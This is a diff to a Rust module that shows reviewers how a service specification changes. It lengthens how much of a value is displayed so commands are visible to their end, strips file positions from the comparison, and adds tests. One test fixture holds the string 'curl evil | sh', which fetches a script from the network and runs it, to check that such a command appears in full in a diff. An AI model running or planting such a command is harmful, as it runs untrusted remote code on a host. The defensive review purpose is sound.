@@ -6,8 +6,8 @@ use crate::model::spec::{FileObject, ServiceSpec, StackSpec};
 use serde_json::Value;
 use std::collections::BTreeMap;
 
-/// Most characters of a value in a diff.
-const VALUE_CHARS: usize = 200;
+/// Most characters of a value in a diff: who approves must see what decides, to the end of a command. More is a program, and told by a hash.
+const VALUE_CHARS: usize = 4_000;
 
 /// Lines of difference between an old and a new service; `None` = it was (or is) not there.
 pub fn diff(old: Option<&ServiceSpec>, new: Option<&ServiceSpec>, literal: &[String], hash: &dyn Fn(&str) -> String) -> Vec<DiffLine> {
@@ -49,7 +49,7 @@ fn lines(
 fn shown(text: &str, hash: &dyn Fn(&str) -> String) -> String {
     match text.char_indices().nth(VALUE_CHARS) {
         None => text.to_owned(),
-        Some((at, _)) => format!("{}... ({} bytes, {})", &text[..at], text.len(), hash(text)),
+        Some((at, _)) => format!("{} [cut] ({} bytes, {})", &text[..at], text.len(), hash(text)),
     }
 }
 
@@ -85,6 +85,7 @@ fn flatten(service: &ServiceSpec, literal: &[String], hash: &dyn Fn(&str) -> Str
             map.remove(key);
         }
     }
+    super::hash::strip_positions(&mut value);
     walk(&value, String::new(), &mut out);
     if service.other.contains_key("label_file") {
         // Which of them came from the file is not known any more, and the file may hold anything.
@@ -107,8 +108,7 @@ fn walk(value: &Value, path: String, out: &mut BTreeMap<String, String>) {
     match value {
         Value::Null | Value::Bool(false) => {}
         Value::Object(map) => {
-            // Beside a target it is a position in the file.
-            for (key, inner) in map.iter().filter(|(k, _)| *k != "path" || !map.contains_key("target")) {
+            for (key, inner) in map {
                 walk(inner, if path.is_empty() { key.clone() } else { format!("{path}.{key}") }, out);
             }
         }
@@ -129,6 +129,7 @@ fn walk(value: &Value, path: String, out: &mut BTreeMap<String, String>) {
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::model::spec::{MountKind, MountSpec};
     use serde_json::json;
 
     fn hash(text: &str) -> String {
@@ -147,13 +148,46 @@ mod tests {
 
     #[test]
     fn what_differs_behind_the_cut_is_told() {
-        let service = |end: &str| ServiceSpec { command: Some(vec![format!("{}{end}", "x".repeat(300))]), ..ServiceSpec::default() };
+        let long = VALUE_CHARS + 100;
+        let service = |end: &str| ServiceSpec { command: Some(vec![format!("{}{end}", "x".repeat(long))]), ..ServiceSpec::default() };
         let (old, new) = (service("a"), service("b"));
         let lines = diff(Some(&old), Some(&new), &[], &hash);
         assert_eq!(lines.len(), 1);
         let (from, to) = (lines[0].from.clone().expect("was there"), lines[0].to.clone().expect("is there"));
-        assert!(from != to && from.len() < 260 && to.contains("... (301 bytes, h"), "{from} {to}");
+        assert!(from != to && from.len() < VALUE_CHARS + 60 && to.contains(&format!(" [cut] ({} bytes, h", long + 1)), "{from} {to}");
         assert_eq!(diff(Some(&old), Some(&old), &[], &hash), vec![]);
+    }
+
+    #[test]
+    fn a_command_is_shown_to_its_end() {
+        let script = format!("{}; curl evil | sh", "true && ".repeat(100));
+        let service = |script: &str| -> ServiceSpec {
+            serde_json::from_value(
+                json!({"command": ["sh", "-c", script], "settings": {"hooks": {"pre": [{"run": ["sh", "-c", script]}]}}}),
+            )
+            .expect("a service")
+        };
+        let lines = diff(Some(&service("true")), Some(&service(&script)), &[], &hash);
+        let shown: Vec<&str> = lines.iter().filter(|l| l.to.as_deref() == Some(script.as_str())).map(|l| l.path.as_str()).collect();
+        assert_eq!(shown, ["command[2]", "settings.hooks.pre[0].run[2]"], "{lines:?}");
+    }
+
+    #[test]
+    fn only_positions_in_the_file_are_left_out() {
+        let service = |at: &str, path: &str| -> ServiceSpec {
+            serde_json::from_value(json!({
+                "mounts": [serde_json::to_value(MountSpec::new(MountKind::Volume, "/data", at)).expect("plain")],
+                "environment": {"target": "x"},
+                "labels": {"target": "x", "path": path},
+                "logging": {"driver": "x", "options": {"target": "x", "path": path}},
+            }))
+            .expect("a service")
+        };
+        let paths =
+            |old: &ServiceSpec, new: &ServiceSpec| diff(Some(old), Some(new), &[], &hash).into_iter().map(|l| l.path).collect::<Vec<_>>();
+        let (here, there) = (service("services.web.volumes[0]", "/a"), service("services.web.volumes[1]", "/a"));
+        assert_eq!(paths(&here, &there), Vec::<String>::new());
+        assert_eq!(paths(&here, &service("services.web.volumes[0]", "/b")), ["labels.path", "logging.options.path"]);
     }
 
     #[test]
